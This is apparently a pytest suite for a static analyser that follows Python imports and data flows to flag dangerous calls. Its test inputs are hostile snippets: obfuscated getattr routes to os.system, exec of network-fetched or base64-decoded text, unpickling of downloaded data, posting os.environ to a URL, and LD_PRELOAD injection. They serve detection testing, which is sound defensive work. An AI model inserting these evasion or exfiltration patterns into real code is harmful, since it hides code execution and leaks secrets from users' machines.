"""Python files that import each other, read as one program: names across files, and the ways that data takes."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assaymark.core.errors import Malformed, OverBudget
from assaymark.core.source.python_program import Program
from assaymark.core.source.python_seen import Flow, PySource


def read(files: dict[str, str]) -> dict[str, PySource]:
    program = Program(("",))
    for path, text in files.items():
        program.add(path, text.encode())
    return program.read()


def acts(files: dict[str, str]) -> set[str]:
    return {c.name for s in read(files).values() for c in s.calls if c.deed is not None}


def flows(source: str) -> list[Flow]:
    return list(read({"m.py": source})["m.py"].flows)


def sinks(source: str) -> set[tuple[str, str]]:
    return {(f.sink, f.source) for f in flows(source)}


@pytest.mark.parametrize(
    "files",
    [
        {"m.py": "from .h import o\no.system('id')", "h.py": "import os as o"},
        {"m.py": "from . import h\nh.o.system('id')", "h.py": "import os as o"},
        {"m.py": "import h\nh.o.system('id')", "h.py": "import os as o"},
        {"m.py": "import h as q\nq.o.system('id')", "h.py": "import os as o"},
        {"m.py": "from .h import *\no.system('id')", "h.py": "import os as o"},
        {"m.py": "from .h import *\no.system('id')", "h.py": "from .i import *", "i.py": "import os as o"},
        {"m.py": "import p.s\np.s.o.system('id')", "p/s.py": "import os as o"},
        {"m.py": "from .p import o\no.system('id')", "p/__init__.py": "from .s import o", "p/s.py": "import os as o"},
        {"m.py": "import os\nfrom .h import N\ngetattr(os, N)('id')", "h.py": "N = 'sys' + 'tem'"},
        {"a/m.py": "from ..h import o\no.system('id')", "h.py": "import os as o"},
    ],
)
def test_names_are_followed_into_other_files(files: dict[str, str]) -> None:
    assert "os.system" in acts(files)


def test_circles_and_missing_files_end() -> None:
    files = {"a.py": "from .b import x\nfrom .c import y\nx()", "b.py": "from .a import x\nfrom .a import *\nx()"}
    assert not acts(files)


def test_wanted_names_the_files_beside() -> None:
    program = Program()
    program.add("a/m.py", b"from .b.c import d\nimport e\nfrom .. import f")
    wanted = program.wanted("a/m.py")
    assert {"a/b.py", "a/b/c.py", "a/b/c/d.py", "a/b/__init__.py", "a/e.py", "f.py"} <= set(wanted)


def test_importing_one_file_reaches_the_other() -> None:
    files = {"m.py": "from .h import run\nrun()", "h.py": "import os\ndef run():\n    os.system('id')"}
    assert [c.on_import for c in read(files)["h.py"].calls if c.deed] == [True]


@pytest.mark.parametrize(
    "source",
    [
        "import os\ndef g(m):\n    m.system('id')\ng(os)",
        "import os\nfor m in [os]:\n    m.system('id')",
        "def g():\n    import os\n    return os\ng().system('id')",
        "import os\nd = {'a': os}\nd['a'].system('id')",
        "import os\nclass C:\n    f = os\nC().f.system('id')",
        "import os\nsetattr(c, 'f', os)\nc.f.system('id')",
        "(lambda o: o.system('id'))(__import__('os'))",
        "import importlib\ndef f(x):\n    importlib.import_module(x).system('id')",
        "import sys\ndef f(x):\n    sys.modules[x].popen('id')",
        "import sys\nfor k, v in sys.modules.items():\n    v.system('id')",
        "def f(x):\n    __builtins__[x]('1')",
        "import builtins\ndef f(x):\n    getattr(builtins, x)('1')",
        "import builtins as b\ndef f(x):\n    b.__dict__['ev' + x]('1')",
        "import os\nfor f in vars(os).values():\n    f('id')",
        "import os\ngetattr(os, ''.join(chr(c ^ 7) for c in b't~tsbj'))('id')",
        "import os\ngetattr(os, bytes([115, 121, 115, 116, 101, 109]).decode())('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
        "f.__code__ = f.__code__.replace(co_code=b'x')",
        "type(lambda: 0)(c, {})()",
        "getattr(getattr((), '__class__').__base__, '__subclas' + 'ses__')()[1]()",
        "import typing\ndef f(x: \"eval('1')\"): ...",
        "from pydoc import locate\nlocate('os.system')('id')",
        "import gc\nfor o in gc.get_objects():\n    o.run()",
        "json.__loader__.load_module('os').system('id')",
        "import keras\nkeras.models.load_model('x', safe_mode=False)",
        "import sys\nsys.meta_path.append(Finder())",
    ],
)
def test_ways_around_a_name(source: str) -> None:
    assert acts({"m.py": source})


@pytest.mark.parametrize(
    "source",
    [
        "import os\nclass D:\n    def __init__(self, f):\n        os.system('id')\n@D\ndef f(): ...",
        "import os\nclass M(type):\n    def __new__(c, *a):\n        os.system('id')\nclass A(metaclass=M): ...",
        "import os\nclass B:\n    def __init_subclass__(c):\n        os.system('id')\nclass A(B): ...",
        "import os\ndef __getattr__(n):\n    os.system('id')",
        "import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system('id')\nclass A:\n    x = D()",
    ],
)
def test_what_importing_reaches(source: str) -> None:
    assert any(c.on_import for c in read({"m.py": source})["m.py"].calls if c.name == "os.system")


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("import requests\nexec(requests.get('u').text)", ("runs", "data from the network")),
        ("import base64\nexec(base64.b64decode(B))", ("runs", "decoded text")),
        ("a = open('x').read()\nb = f'{a}!'\nc = [b]\nexec(c[0])", ("runs", "the content of a file")),
        ("class M:\n    def forward(self, x):\n        eval(x)", ("runs", "the model's input")),
        ("class M:\n    def f(self):\n        exec(bytes(self.l.weight.tolist()))", ("runs", "bytes of the weights")),
        ("import requests\nf = lambda: requests.get('u').text\nexec(f())", ("runs", "data from the network")),
        ("import requests\ndef f(x):\n    exec(x)\nf(requests.get('u').text)", ("runs", "data from the network")),
        (
            "import requests\ndef f(**k):\n    exec(k['c'])\nf(c=requests.get('u').text)",
            ("runs", "data from the network"),
        ),
        (
            "import requests\nclass A:\n    def g(self):\n        self.c = requests.get('u')\n    def h(self):\n        exec(self.c.text)",
            ("runs", "data from the network"),
        ),
        ("import requests\nd = {}\nd['a'] = requests.get('u').text\nexec(d['a'])", ("runs", "data from the network")),
        ("import requests\nl = []\nl.append(requests.get('u').text)\nexec(l[0])", ("runs", "data from the network")),
        (
            "import requests\nfor line in requests.get('u').iter_lines():\n    exec(line)",
            ("runs", "data from the network"),
        ),
        ("import requests\nwith requests.get('u') as r:\n    exec(r.text)", ("runs", "data from the network")),
        ("import requests\n(x := requests.get('u').text)\nexec(x)", ("runs", "data from the network")),
        ("import pickle, requests\npickle.loads(requests.get('u').content)", ("unpickles", "data from the network")),
        ("import os, requests\nrequests.post('u', json=dict(os.environ))", ("sends", "secrets of the machine")),
        ("import os, requests\nrequests.get('u?' + os.environ['API_KEY'])", ("sends", "secrets of the machine")),
        (
            "import importlib, base64\nimportlib.import_module(base64.b64decode('b3M=').decode())",
            ("names", "decoded text"),
        ),
        ("def d(x): ...\ngetattr(m, d('abc'))('id')", ("names", "a text that a function makes of another")),
        ("import os\nos.environ['LD_PRELOAD'] = 'x'", ("sets", "LD_PRELOAD")),
        ("open('x.py', 'w').write('1')", ("writes", "a file that others run or trust")),
    ],
)
def test_data_is_followed(source: str, expected: tuple[str, str]) -> None:
    assert expected in sinks(source)


@pytest.mark.parametrize(
    "source",
    [
        "import requests\nimage = open_image(requests.get('u').content)",
        "import base64, io\nio.BytesIO(base64.b64decode(x))",
        "import os, requests\nrequests.get('u', headers={'x': os.environ.get('LANG')})",
        "class M:\n    def forward(self, x):\n        return getattr(self, 'layer')(x)",
        "import torch\ndef f(c):\n    return getattr(torch.nn, c.act)()",
        "import json\njson.load(open('x.json'))",
        "import importlib\ndef f(n):\n    importlib.import_module(f'.{n}', __package__)",
        "def f(d):\n    with open(d + '/x.json', 'w') as h:\n        h.write('1')",
        "import os\nos.environ['CUDA_VISIBLE_DEVICES'] = '0'",
        "class M:\n    def forward(self, url):\n        import requests\n        return requests.get(url).content",
    ],
)
def test_ordinary_data_is_quiet(source: str) -> None:
    assert not flows(source)


def test_flow_says_where_and_when() -> None:
    (flow,) = flows("import requests\nclass M:\n    def forward(self):\n        exec(requests.get('u').text)")
    assert (flow.origin, flow.name, flow.line, flow.within, flow.on_import) == (
        "requests.get in line 4",
        "exec",
        4,
        "M.forward",
        False,
    )
    (flow,) = flows("import requests\ndef f():\n    exec(requests.get('u').text)\nf()")
    assert flow.on_import


def test_too_many_acts_are_not_dropped_in_silence() -> None:
    with pytest.raises(OverBudget):
        read({"m.py": "import os\n" + "os.fork\n" * 41_000})


def test_many_calls_and_definitions_end() -> None:
    source = "".join(f"class C{i}:\n    def f(self, a):\n        return self.f(a)\n" for i in range(800))
    source += "".join(f"x{i} = o.f(x{i - 1})\n" for i in range(2000))
    assert not flows(source + "exec(x9)\n")


_SEEDS = [
    "import os as o\nfor f in (o.system, exec):\n    f('x', *a, k='v', **b)\n",
    "class A(B, metaclass=C):\n    x: 'int' = 1\n    def f(self, *a, k=eval, **b): return [y for y in a if (z := y)]\n",
    "from .b import *\nimport b.c as d\nwith open('x') as f, g() as (a, b.c): del a; lambda q: q[::-1]['x'](*a)\n",
    "match x:\n    case [a, *b] if globals()['e'](a): pass\nasync def f():\n    async for i in g: yield await i\n",
]


@given(
    st.sampled_from(_SEEDS),
    st.sampled_from(_SEEDS),
    st.lists(st.tuples(st.integers(0, 200), st.sampled_from("()[]{}.,:='\"\n +*a0@")), max_size=4),
)
@settings(max_examples=100, deadline=None)
def test_any_program_ends_well(one: str, other: str, edits: list[tuple[int, str]]) -> None:
    for at, char in edits:
        one = one[: at % len(one)] + char + one[at % len(one) + 1 :]
    try:
        read({"a.py": one, "b.py": other, "b/c.py": one})
    except (Malformed, OverBudget):
        return
